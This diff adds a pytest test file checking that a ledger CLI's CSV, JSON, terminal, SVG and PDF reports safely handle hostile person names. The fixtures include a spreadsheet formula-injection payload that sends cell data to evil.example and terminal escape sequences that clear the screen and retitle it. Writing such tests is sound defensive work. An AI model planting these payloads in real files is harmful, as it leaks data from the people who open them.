@@ -1,0 +1,150 @@
+"""Reports survive whatever text signed events carry (issue 12 §4).
+
+A real signed SQLite ledger whose events name people with a spreadsheet formula, terminal
+escape sequences, a carriage return, CJK characters and a 1,000-character name, then every
+output that shows names: CSV, JSON, the terminal tables, the SVG, the PDFs.
+"""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+import xml.etree.ElementTree as ET
+from pathlib import Path
+from typing import Any
+
+import pytest
+from click.testing import CliRunner
+
+from cli.main import cli
+from ledger.text import display_width
+from tests.ledger.audit.audit_factory import build_store, ingredient, provenance
+
+FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click me")'
+ESCAPES = "\x1b[2J\x1b]0;pwned\x07Mallory\rEve"
+CJK = "山田太郎"
+LONG = "W" * 1000
+A = "fallen-tower/ep101/sq900"
+
+
+def _person(name: str, actor_id: str) -> dict[str, Any]:
+    return {"actor_id": actor_id, "kind": "human", "display_name": name, "role": "cawg.creator"}
+
+
+@pytest.fixture(scope="module")
+def ledger(tmp_path_factory: pytest.TempPathFactory) -> str:
+    path = tmp_path_factory.mktemp("hostile") / "ledger.db"
+    items = [
+        provenance(f"{A}/plate", actor=_person(FORMULA, "person:formula")),
+        provenance(
+            f"{A}/roto",
+            actor=_person(ESCAPES, "person:escapes"),
+            ingredients=[ingredient(f"{A}/plate", "v001", "parentOf")],
+        ),
+        provenance(f"{A}/paint", actor=_person(CJK, "person:cjk")),
+        provenance(
+            f"{A}/comp",
+            actor=_person(LONG, "person:long"),
+            rights={"licence": "L" * 5000},
+            ingredients=[ingredient(f"{A}/roto", "v001"), ingredient(f"{A}/paint", "v001")],
+        ),
+        provenance(
+            f"{A}/sky",
+            ai=True,
+            model={
+                "name": "M" * 1000,
+                "version": "1",
+                "provider": "P" * 1000,
+                "licence": None,
+                "training_data": None,
+            },
+        ),
+        provenance(
+            f"{A}/grade",
+            actor=_person("-2+3", "person:minus"),
+            ingredients=[
+                ingredient(f"{A}/comp", "v001", "parentOf"),
+                ingredient(f"{A}/sky", "v001"),
+            ],
+        ),
+    ]
+    build_store(path, items).close()
+    return str(path)
+
+
+def run(*args: str) -> tuple[int, str, str]:
+    result = CliRunner().invoke(cli, list(args))
+    assert result.exception is None or isinstance(result.exception, SystemExit), result
+    return result.exit_code, result.stdout, result.stderr
+
+
+def credits(ledger: str, *args: str) -> tuple[int, str, str]:
+    return run("credits", "--production", "Fallen Tower", "--ledger", ledger, *args)
+
+
+def test_credits_csv_neutralises_formulas_and_keeps_a_cr_inside_its_cell(ledger: str) -> None:
+    code, out, _ = credits(ledger, "--format", "csv")
+    assert code == 0
+    rows = list(csv.DictReader(io.StringIO(out, newline="")))
+    names = {r["name"] for r in rows if r["section"] == "credit"}
+    assert "'" + FORMULA in names  # shown as text by spreadsheets, never evaluated
+    assert "'-2+3" in names
+    assert ESCAPES in names  # one cell, CR and all: no extra row
+    assert not any(r["name"].startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows)
+    assert all(len(r) == len(rows[0]) and None not in r for r in rows)
+
+
+def test_credits_json_keeps_exact_values(ledger: str) -> None:
+    code, out, _ = credits(ledger, "--format", "json")
+    assert code == 0
+    text = json.dumps(json.loads(out))
+    for name in (FORMULA, ESCAPES, CJK, LONG):
+        assert json.dumps(name)[1:-1] in text
+
+
+def test_terminal_outputs_escape_control_characters(ledger: str) -> None:
+    outputs = [
+        credits(ledger)[1],
+        run("log", "--ledger", ledger)[1],
+        run("audit", "lineage", f"{A}/grade@v001", "--ledger", ledger)[1],
+        run("audit", "lineage", f"{A}/plate@v001", "--descendants", "--ledger", ledger)[1],
+    ]
+    for out in outputs:
+        assert "\x1b" not in out and "\x07" not in out and "\r" not in out
+    assert "\\x1b[2J\\x1b]0;pwned\\x07Mallory\\rEve" in outputs[0]
+    assert "Mallory" in outputs[1] and "\\x1b" in outputs[1]
+
+
+def test_credits_table_pads_by_display_width(ledger: str) -> None:
+    _, out, _ = credits(ledger)
+    lines = out.split("\n")
+    header = next(i for i, line in enumerate(lines) if line.startswith("NAME"))
+    table = lines[header : lines.index("", header)]
+    role_column = display_width(table[0][: table[0].index("ROLE")])
+    for line in table[1:]:
+        role_at = line.index("cawg.")
+        assert display_width(line[:role_at]) == role_column, line[:80]
+
+
+def test_lineage_svg_is_valid_xml(ledger: str) -> None:
+    code, out, _ = run(
+        "audit", "lineage", f"{A}/plate@v001", "--descendants", "--format", "svg",
+        "--ledger", ledger,
+    )  # fmt: skip
+    assert code == 0
+    ET.fromstring(out)  # raises on a control character
+
+
+@pytest.mark.parametrize(
+    "args",
+    [
+        ("credits", "--production", "Fallen Tower"),
+        ("audit", "report", "--production", "Fallen Tower", "--fail-on", "never"),
+    ],
+)
+def test_pdf_reports_lay_out_long_values(ledger: str, tmp_path: Path, args: tuple[str]) -> None:
+    out = tmp_path / "r.pdf"
+    code, _, err = run(*args, "--format", "pdf", "-o", str(out), "--ledger", ledger)
+    assert code == 0, err
+    assert out.read_bytes().startswith(b"%PDF-")
